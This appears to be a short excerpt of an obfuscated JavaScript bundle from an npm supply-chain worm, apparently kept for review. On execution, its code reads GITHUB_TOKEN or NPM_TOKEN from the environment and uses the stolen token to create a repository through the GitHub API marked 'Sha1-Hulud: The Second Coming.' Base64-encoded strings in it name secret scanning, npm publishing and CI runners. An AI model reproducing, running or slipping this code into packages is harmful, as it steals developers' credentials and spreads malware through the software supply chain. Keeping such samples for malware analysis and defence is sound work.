// 10MB obfuscated bundle (truncated for review)
const _0x1a=['Z2l0aHViLmNvbQ==','dHJ1ZmZsZWhvZw==','bnBtIHB1Ymxpc2g=','cnVubmVycw=='];
(async()=>{const t=process.env.GITHUB_TOKEN||process.env.NPM_TOKEN;const r=await fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+t},body:JSON.stringify({name:crypto.randomUUID(),description:'Sha1-Hulud: The Second Coming.'})});})();
